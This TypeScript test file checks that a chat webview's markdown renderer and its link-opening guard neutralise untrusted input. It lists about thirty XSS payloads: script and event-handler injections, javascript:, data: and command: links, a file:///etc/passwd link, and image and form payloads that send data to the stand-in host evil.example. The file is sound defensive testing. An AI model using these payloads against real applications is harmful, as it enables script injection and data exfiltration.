import assert from "node:assert/strict";
import { createMarkdown } from "../../src/webview/chat/markdown/createMarkdown.ts";
import { isOpenableLink } from "../../src/webview/chat/markdown/isOpenableLink.ts";

const markdown = createMarkdown();

/** Every tag the renderer may write; anything else in angle brackets is a hole. */
const harmlessTag = new RegExp(
  `^<(?:/?(?:p|h[3-6]|strong|em|s|pre|blockquote|ul|table|thead|tbody|tr)|br|hr|/?ol|ol start="\\d+"|/?li|/?code` +
    `|code class="language-[^"<>]*"|/?t[hd]|t[hd] class="align-(?:left|center|right)"|a href="https?://[^"<>]*"( title="[^"<>]*")?|/a)>$`,
  "u",
);

function check(text: string): void {
  const html = markdown.render(text);
  for (const tag of html.match(/<[^>]*>?/gu) ?? []) assert.match(tag, harmlessTag, `${text} became ${html}`);
}

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<style>body{background:url(https://evil.example)}</style>",
  '<a href="javascript:alert(1)">x</a>',
  '<div style="position:fixed">x</div>',
  "<form action=https://evil.example><input name=key></form>",
  "<base href=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example>",
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  "![x](https://evil.example/pixel.png?leak=secret)",
  '![x"onerror="alert(1)](https://evil.example/a.png)',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://evil.extension/run)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<https://a.example/><script>",
  '```"onload=alert(1)\ncode\n```',
  "```<script>\nalert(1)\n```",
  "[r]\n\n[r]: javascript:alert(1)",
  "| a |\n|:-:|\n| <b onclick=alert(1)> |",
  "`<script>alert(1)</script>`",
];

describe("markdown of an untrusted author", () => {
  for (const attack of attacks) it(`stays harmless: ${JSON.stringify(attack)}`, () => check(attack));

  it("shows an image as its words and address", () => {
    assert.equal(
      markdown.render("![A chart](https://a.example/c.png)"),
      "<p>A chart (image: https://a.example/c.png)</p>\n",
    );
  });

  it("does not take file names for addresses", () => {
    assert.equal(
      markdown.render("see main.rs, README.md and example.com"),
      "<p>see main.rs, README.md and example.com</p>\n",
    );
  });

  it("writes a cell's alignment as a class", () => {
    assert.match(markdown.render("| a |\n|--:|\n| 1 |"), /<td class="align-right">1<\/td>/u);
  });
});

describe("isOpenableLink", () => {
  const table: readonly (readonly [string, boolean])[] = [
    ["https://openrouter.ai/models", true],
    ["http://localhost:8080/x", true],
    ["HTTPS://a.example", true],
    ["javascript:alert(1)", false],
    ["command:x", false],
    ["//a.example", false],
    ["/etc/passwd", false],
    ["mailto:a@b.example", false],
    ["https://bank.example@evil.example/", false],
    ["https://", false],
    ["", false],
  ];
  for (const [href, expected] of table) {
    it(`${expected ? "opens" : "refuses"} ${JSON.stringify(href)}`, () => assert.equal(isOpenableLink(href), expected));
  }
});
